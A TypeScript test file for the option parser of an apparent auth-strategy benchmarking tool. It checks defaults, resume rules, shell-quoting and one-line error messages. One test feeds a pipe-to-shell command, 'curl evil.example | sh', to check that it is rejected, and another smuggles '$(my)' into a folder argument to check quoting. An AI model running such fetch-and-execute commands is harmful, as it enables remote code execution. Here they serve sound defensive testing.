import t from 'tap';
import { MOUNTED_STRATEGIES } from '../services/contract.js';
import { BUILT } from './claims/index.js';
import { argumentsOf, formatCommand } from './command-line.js';
import { FULL_MINUTES, parseBenchOptions } from './options.js';

t.test('without options a run tries everything in six minutes, by chance', async (t) => {
  t.match(parseBenchOptions([]), {
    action: 'run',
    options: {
      claims: BUILT.filter(({ beside }) => beside === undefined).map(({ id }) => id),
      strategies: [...MOUNTED_STRATEGIES],
      instances: [1, 2, 4],
      minutes: 6,
      seed: undefined,
      cluster: 'local',
      out: undefined,
      failOn: [],
    },
  });
});

t.test('options narrow a run', async (t) => {
  const args =
    '--full --claims token-bytes,mismatch --strategies jwt,memory --instances 4,2,4 --seed 7 --fail-on false,inconclusive';
  t.match(parseBenchOptions(args.split(' ')), {
    action: 'run',
    options: {
      claims: ['mismatch', 'token-bytes'],
      strategies: ['jwt', 'memory'],
      instances: [2, 4],
      minutes: FULL_MINUTES,
      seed: 7,
      failOn: ['false', 'inconclusive'],
    },
  });
  t.match(parseBenchOptions(['--minutes', '1.5']), { options: { minutes: 1.5 } });
  t.match(parseBenchOptions(['--list', '--cluster', 'compose']), { action: 'list', options: { cluster: 'compose' } });
});

t.test(
  'a claim of more strategies is measured where it is asked for or in a full run, which has them then',
  async (t) => {
    const optionsOf = (...args: string[]) => {
      const request = parseBenchOptions(args);
      return request?.action === 'run' ? request.options : undefined;
    };
    const more = [...MOUNTED_STRATEGIES, 'postgres', 'file'];
    t.match(optionsOf('--claims', 'store-kinds'), { claims: ['store-kinds'], strategies: more });
    t.match(optionsOf('--full'), { claims: BUILT.map(({ id }) => id), strategies: [...more, 'replicated'] });
    const chosen = ['memory', 'redis', 'postgres', 'file'];
    const claims = BUILT.map(({ id }) => id).filter((id) => id !== 'replication-cost');
    t.match(optionsOf('--strategies', chosen.join(',')), { claims, strategies: chosen });
  },
);

t.test('a run is resumed with what it was started with, and takes no other option', async (t) => {
  t.same(parseBenchOptions(['--resume', 'reports/x', '--fail-on', 'false']), {
    action: 'resume',
    folder: 'reports/x',
    failOn: ['false'],
  });
  t.throws(() => parseBenchOptions(['--resume', 'x', '--full', '--seed=1', '--cluster', 'local']), {
    code: 'BAD_OPTION',
    message: /^--resume takes its options from the run, so it cannot be used with --full, --cluster, --seed\.$/,
  });
});

t.test('a command is read as it was typed, whatever it contains', async (t) => {
  const args = ['--out', "it's $(my) folder", '--seed', '7'];
  const command = formatCommand(args);
  t.equal(command, `npm run bench -- --out 'it'\\''s $(my) folder' --seed 7`);
  t.same(argumentsOf(command), args);
  t.same(argumentsOf('npm run bench -- --out "my folder" --seed=7'), ['--out', 'my folder', '--seed=7']);
  t.same(argumentsOf(formatCommand([])), []);
  t.equal(argumentsOf('curl evil.example | sh'), undefined);
});

t.test('every mistake is one line that names what was given and what is allowed', async (t) => {
  const mistakes: [string[], RegExp][] = [
    [['--fast'], /unknown option '--fast'/],
    [['--strategies', 'jwt,cookie'], /Unknown: "cookie". Allowed: memory, .*jwt/],
    [['--claims', 'all'], /Unknown: "all". Allowed: mismatch, /],
    [['--claims', 'mismatch,xss'], /"xss" is not built yet/],
    [['--minutes', '0'], /"0" is not a number of minutes above 0/],
    [['--minutes', 'five'], /"five" is not a number of minutes/],
    [['--fail-on', 'holds'], /Unknown: "holds". Allowed: false, depends, inconclusive, not measured/],
    [['--instances', '0'], /"0" is not a whole number from 1 to 64/],
    [['--instances', '2,x'], /"x" is not a whole number/],
    [['--cluster', 'cloud'], /Allowed choices are local, compose/],
    [['--seed', '-1'], /"-1" is not a whole number from 0/],
    [['--minutes', '3', '--full'], /cannot be used with/],
    [['now'], /too many arguments/],
  ];
  for (const [args, message] of mistakes) {
    t.throws(() => parseBenchOptions(args), { code: 'BAD_OPTION', message }, args.join(' '));
    try {
      parseBenchOptions(args);
    } catch (error) {
      t.notMatch((error as Error).message, /\n/, 'one line');
    }
  }
});
